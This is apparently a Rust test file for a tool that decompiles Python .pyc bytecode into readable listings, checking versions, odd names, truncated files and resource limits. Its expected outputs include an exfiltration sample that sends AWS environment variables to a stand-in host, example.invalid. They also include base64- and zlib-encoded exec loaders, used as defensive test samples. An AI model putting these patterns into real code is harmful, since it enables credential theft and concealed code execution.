mod old;

use super::super::testing::{Seen, open_named, open_with, survive};
use super::*;
use crate::limits::{Limits, MemoryPool};
use base64::Engine as _;
use std::sync::Arc;

/// The module of `samples.txt` for each version.
fn samples() -> Vec<(String, Vec<u8>)> {
    compiled(include_str!("samples.txt"))
}

fn compiled(list: &str) -> Vec<(String, Vec<u8>)> {
    let mut samples: Vec<(String, String)> = Vec::new();
    for line in list.lines().filter(|l| !l.starts_with('#')) {
        match line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            Some(version) => samples.push((version.to_owned(), String::new())),
            None => samples.last_mut().unwrap().1.push_str(line),
        }
    }
    let decode = |text: String| base64::engine::general_purpose::STANDARD.decode(text).unwrap();
    samples.into_iter().map(|(version, text)| (version, decode(text))).collect()
}

fn look(bytes: &[u8]) -> Seen {
    open_named(&Pyc, FileKind::Pyc, "pkg/__pycache__/m.cpython-311.opt-1.pyc", bytes)
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(look(bytes).content("m.py").to_vec()).unwrap()
}

/// Marshalled code of 3.11 and later: instructions, constants and names.
fn code(bytecode: &[u8], constants: &[&[u8]], names: &[&str]) -> Vec<u8> {
    let mut out = vec![b'c'];
    [0u32, 0, 0, 4, 0].iter().for_each(|n| out.extend(n.to_le_bytes()));
    let string = |out: &mut Vec<u8>, bytes: &[u8]| {
        out.push(b's');
        out.extend(u32::try_from(bytes.len()).unwrap().to_le_bytes());
        out.extend(bytes);
    };
    string(&mut out, bytecode);
    out.extend([b')', u8::try_from(constants.len()).unwrap()]);
    constants.iter().for_each(|c| out.extend(*c));
    out.extend([b')', u8::try_from(names.len()).unwrap()]);
    for name in names {
        out.extend([b'z', u8::try_from(name.len()).unwrap()]);
        out.extend(name.bytes());
    }
    out.extend(b")\0");
    string(&mut out, b"");
    out.extend(b"z\x04m.pyz\x08<module>z\x08<module>");
    out.extend([1, 0, 0, 0]);
    string(&mut out, b"");
    string(&mut out, b"");
    out
}

fn pyc(magic: u16, code: &[u8]) -> Vec<u8> {
    let mut out = magic.to_le_bytes().to_vec();
    out.extend(b"\r\n");
    out.resize(16, 0);
    out.extend(code);
    out
}

#[test]
fn each_version_reads_like_its_source() {
    let samples = samples();
    assert_eq!(samples.len(), 8);
    for (version, bytes) in samples {
        let seen = look(&bytes);
        assert_eq!((seen.result.clone(), seen.gaps.clone()), (Ok(()), vec![]), "{version}");
        assert!(seen.findings.is_empty(), "{version}");
        let text = text(&bytes);
        let mut wanted = vec![
            "\n\"\"\"Doc.\"\"\"\n",
            "\nimport os\n",
            "\nimport base64\n",
            "\nfrom urllib.request import urlopen as get, Request\n",
            "\nclass Sender(object):\n    \"\"\"Sends.\"\"\"\n    limit = 3\n    def send(self, url, data=b'x', **more):\n",
            "\n        with open(url, 'rb') as f:\n            body = f.read()\n",
            "\n        for k, v in os.environ.items():\n            if k.startswith('AWS'):\n",
            " get(f\"https://example.invalid/{k}?v={v!r}\", data=body, timeout=5)\n",
            "\ntry:\n    exec(base64.b64decode('cHJpbnQoMSk='))\n",
            "except Exception:\n    pass\n",
        ];
        wanted.push("\n        return [x for x in body if x]\n");
        for line in wanted {
            assert!(text.contains(line), "{version}: {line}\n{text}");
        }
        assert!(!text.contains("__qualname__"), "{version}\n{text}");
    }
}

#[test]
fn a_header_of_the_python_before_is_no_reason_not_to_read() {
    for (version, mut bytes) in samples().into_iter().filter(|(version, _)| version != "3.6") {
        let whole = text(&bytes);
        bytes.drain(12..16);
        let seen = look(&bytes);
        assert_eq!((seen.result.clone(), seen.gaps.clone()), (Ok(()), vec![]), "{version}");
        assert_eq!(text(&bytes), whole, "{version}");
    }
}

#[test]
fn what_is_guarded_and_what_leaves_it_reads_as_python() {
    let [(_, bytes)] = compiled(include_str!("guarded.txt")).try_into().unwrap();
    let text = text(&bytes);
    for lines in [
        "    try:\n        return os.getenv(x).strip()\n    except ValueError:\n        return False\n",
        "            try:\n                if i:\n",
        "            except (ValueError, KeyError):\n",
        "        finally:\n",
        ".run(*x, flag=True, **{'a-b': 1}, **x[:, 1])\n",
        "    got = (yield x)\n    return (yield None)\n",
    ] {
        assert!(text.contains(lines), "{lines}\n{text}");
    }
}

#[test]
fn names_that_no_source_could_have() {
    let wanted = [("if", "if_"), ("a.1.class", "a._1.class_"), ("", "_"), ("a b", "ab"), ("*", "*"), ("x_.y", "x_.y")];
    for (name, written) in wanted.into_iter().chain([(".0", "_0"), ("None", "None")]) {
        let budget = Budget::new(Arc::new(Limits::default()), MemoryPool::new(1 << 20), 0);
        let mut meter = budget.meter();
        let mut text = Text::new(&mut meter, 100);
        text.name(name.as_bytes());
        assert_eq!(text.finish(), None);
        assert_eq!(String::from_utf8_lossy(&meter.finish()), written, "{name}");
    }
}

#[test]
fn instructions_of_3_14() {
    let bytecode =
        [128, 0, 94, 0, 82, 0, 73, 0, 116, 0, 93, 1, 33, 0, 82, 1, 52, 1, 0, 0, 0, 0, 0, 0, 31, 0, 82, 0, 35, 0];
    let code = code(&bytecode, &[b"N", b"z\x08print(1)"], &["os", "exec"]);
    let text = text(&pyc(3627, &code));
    assert!(text.ends_with("\nimport os\nexec('print(1)')\n"), "{text}");
}

#[test]
fn lambdas_and_decoders_stand_in_one_expression() {
    // _ = lambda x: x.decompress; exec(_(b'...')) in 3.12: the lambda is written where it is stored.
    let inner = {
        let mut code = code(
            &[151, 0, 101, 0, 106, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 83, 0],
            &[],
            &["zlib", "decompress"],
        );
        let at = code.windows(10).position(|w| w == b"z\x08<module>").unwrap();
        code.splice(at..at + 10, *b"z\x08<lambda>");
        code
    };
    let bytecode = [100, 0, 132, 0, 90, 0, 2, 0, 101, 1, 101, 0, 100, 1, 171, 1, 0, 0, 0, 0, 0, 0, 1, 0, 121, 2];
    let outer = code(&bytecode, &[&inner, b"s\x02\0\0\0\x00\xff", b"N"], &["_", "exec"]);
    let text = text(&pyc(3531, &outer));
    assert!(text.contains("\n_ = lambda: zlib.decompress\n"), "{text}");
}

#[test]
fn names_of_listings() {
    let cases = [
        ("a/b.pyc", "b.py"),
        ("__pycache__/x.cpython-311.pyc", "x.py"),
        ("x.cpython-36.opt-2.pyc", "x.py"),
        ("x.pypy310.pyc", "x.py"),
        ("x.pyo", "x.py"),
        ("noending", "noending.py"),
    ];
    for (name, listed) in cases {
        assert_eq!(listing_name(name), listed);
    }
}

#[test]
fn what_is_not_read_is_said_and_listed() {
    let body = code(&[151, 0, 121, 0], &[b"z\x11https://x.invalid"], &["exec"]);
    // A number that is of no Python.
    let seen = look(&pyc(4242, &body));
    assert_eq!(seen.gaps[0].reason, GapReason::Unsupported);
    assert!(seen.gaps[0].detail.contains("4242"), "{}", seen.gaps[0]);
    let listed = String::from_utf8(seen.content("m.py").to_vec()).unwrap();
    assert!(listed.contains("exec") && listed.contains("'https://x.invalid'"), "{listed}");
    // A version with instructions that are not known here.
    let gap = look(&pyc(3660, &body)).broken();
    assert!(gap.detail.contains("Python 3.15"), "{gap}");
    // An instruction that the version does not have.
    let seen = look(&pyc(3531, &code(&[151, 0, 200, 0], &[b"z\x01x"], &["exec"])));
    assert!(seen.broken().detail.contains("no instruction 200"), "{}", seen.broken());
    assert!(String::from_utf8(seen.content("m.py").to_vec()).unwrap().contains("exec\n_ = 'x'"));
    // No code object.
    assert_eq!(look(&pyc(3531, b"N")).broken().reason, GapReason::Malformed);
    // Cut off.
    let (_, whole) = samples().pop().unwrap();
    let seen = look(&whole[..whole.len() / 2]);
    assert_eq!(seen.broken().reason, GapReason::Malformed);
    // Bytes behind the code.
    let mut more = whole;
    more.extend(b"PK\x03\x04");
    assert_eq!(look(&more).names(), ["m.py", "trailing"]);
}

#[test]
fn doubled_expressions_end() {
    // a; then (COPY 1; BINARY_OP +) again and again: each doubles what is written.
    let mut bytecode = vec![151, 0, 101, 0];
    for _ in 0..2000 {
        bytecode.extend([120, 1, 122, 0, 0, 0]);
    }
    bytecode.extend([90, 0, 121, 0]);
    let seen = look(&pyc(3531, &code(&bytecode, &[b"N"], &["a"])));
    assert_eq!(seen.broken().reason, GapReason::Limit);
    assert!(seen.content("m.py").len() < 1 << 20);
    // A constant that holds itself, and one that doubles.
    let mut doubling = b"\xa9\x01N".to_vec();
    for n in 0..60u32 {
        doubling = [&b"\xa9\x02"[..], &doubling, b"r", &(59 - n).to_le_bytes()].concat();
    }
    for constant in [&b"\xdb\x01\0\0\0r\x00\0\0\0"[..], &doubling] {
        let seen = look(&pyc(3531, &code(&[151, 0, 100, 0, 90, 0, 121, 0], &[constant], &["a"])));
        assert!(seen.content("m.py").len() < 1 << 20);
    }
    // A long chain is no deep recursion.
    let mut chain = vec![151, 0, 101, 0];
    for _ in 0..30_000 {
        chain.extend([101, 0, 122, 0, 0, 0]);
    }
    chain.extend([90, 0, 121, 0]);
    let seen = look(&pyc(3531, &code(&chain, &[b"N"], &["a"])));
    assert_eq!(seen.content("m.py").iter().filter(|b| **b == b'+').count(), 30_000);
}

#[test]
fn small_budgets_and_broken_files() {
    let (_, bytes) = samples().remove(5);
    let limits = Limits { entry: 100, ..Limits::default() };
    assert_eq!(open_with(&Pyc, FileKind::Pyc, "m.pyc", &bytes, limits, &[]).broken().reason, GapReason::Limit);
    survive(&Pyc, FileKind::Pyc, &bytes);
    survive(&Pyc, FileKind::Pyc, &samples().remove(0).1);
}

#[test]
#[ignore = "writes the listing of each file named in PEEPHOLE_PYC (a list of paths) beside it, to be looked at"]
fn listings_to_look_at() {
    let Ok(list) = std::env::var("PEEPHOLE_PYC") else { return };
    for path in std::fs::read_to_string(list).unwrap().lines() {
        std::fs::write(format!("{path}.listing"), text(&std::fs::read(path).unwrap())).unwrap();
    }
}
